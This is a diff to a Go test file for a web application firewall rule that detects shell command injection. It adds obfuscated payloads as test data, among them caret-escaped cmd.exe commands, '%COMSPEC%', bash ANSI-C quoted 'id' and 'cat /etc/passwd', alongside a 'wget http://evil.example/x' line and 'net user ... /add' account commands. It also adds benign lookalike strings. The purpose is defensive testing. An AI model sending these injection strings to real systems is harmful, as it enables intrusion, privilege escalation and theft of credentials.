@@ -28,7 +28,11 @@ func TestShortPayloads(t *testing.T) {
 		`\' OR exists(select 1 from users where password like 'p%')--`, `\' OR 1=1 LIMIT 1 OFFSET 1--`,
 		// expansions to nothing, grouping, Windows (a fifth fresh-eyes
 		// attack's F4)
-		";w$@get http://evil.example/x", ";who$@ami", ";u$@name -a", ";i$()d", ";i$*d", "|(id)", ";{ id; }", "& net user", "& ver"} {
+		";w$@get http://evil.example/x", ";who$@ami", ";u$@name -a", ";i$()d", ";i$*d", "|(id)", ";{ id; }", "& net user", "& ver",
+		// cmd.exe's carets, net1, net.exe, call, %COMSPEC%, bash's ANSI-C
+		// quoting (a sixth fresh-eyes attack's B9)
+		"x & n^et user", "x & v^er", "x & c^u^r^l http://x", "x & net1 user", `x & "net" user`, "x & net.exe user", "x & call net user",
+		"x & %COMSPEC% /c ver", `x;$'\x69\x64'`, `x;i$'\x64'`} {
 		jv := `"` + jsonEscape(v) + `"`
 		misses = append(misses,
 			probe{name: v + " in the query", method: "GET", path: "/login?user=" + q(v)},
@@ -219,7 +223,13 @@ var shellCommandAttacks = []string{"| id", "; id", ";id", "&& id", "`id`", "x|id
 	// narrowed it to them)
 	"& net user;", "x & net view", "& NET USER", "& net user bob P@ss1 /add", "& net localgroup administrators bob /add",
 	"& net user administrator /active:yes", `& net use z: \\evil.example\c$`, `& net view \\dc01`, "& net group \"Domain Admins\" /domain",
-	"& net accounts /domain", "& net share x=c:\\ /grant:everyone,full", "| net localgroup"}
+	"& net accounts /domain", "& net share x=c:\\ /grant:everyone,full", "| net localgroup",
+	// cmd.exe's carets, net1, net.exe, "net", call, %COMSPEC%, bash's
+	// ANSI-C quoting (a sixth fresh-eyes attack's B9)
+	"x & n^et user", "x & ne^t us^er", "x & v^er", "x & c^u^r^l http://x", "x & w^h^o^a^m^i", "x & ^whoami", "x & net1 user", `x & "net" user`,
+	"x & net.exe user", "x & NET.EXE user", "x & n^et1 user", "x & call net user", "x & CALL ver", "x & %COMSPEC% /c ver", "x & %comspec%",
+	"x & cmd /c ver", "x & cmd.exe /C whoami", `x;$'\x69\x64'`, `x;i$'\x64'`, `x;$'\151\144'`, `x;$'\u0069d'`, "x;i$'d'", `x;i$"d"`, `x|$'\x63at' /etc/passwd`,
+	`$($'\x69\x64')`}
 
 // shellCommandBenign is ordinary text near 210151's attacks: the fifth
 // fresh-eyes attack's F12 (Markdown tables, inline code, line lists,
@@ -236,6 +246,9 @@ var shellCommandBenign = []string{
 	"Gross & net share price", "Tax & net use", "Sales & net users", "Revenue & net view count", "pros & net user count",
 	"net user guide & net view guide", "Gross & net start-up costs", "Tax & net config changes", "Sales & net group sales / year",
 	"Gross & net users / month", "P&L; net use of funds", "Gross & net share price / earnings", "Terms & ver 2",
+	// near B9: carets, call, $'' in prose and code
+	"2^3 & 4^2", "x^2 | y^2", "a; call me later", "Me & you; call us", "x & cmd line tools", "Use `$'\\t'` for a tab", "it costs $'5' & up",
+	"net1 & net2", "Q&A; call center", "& ^_^", "Tom & Jerry; ^^ nice",
 }
 
 // TestShellCommandRule measures rule 210151's expression (as Coraza
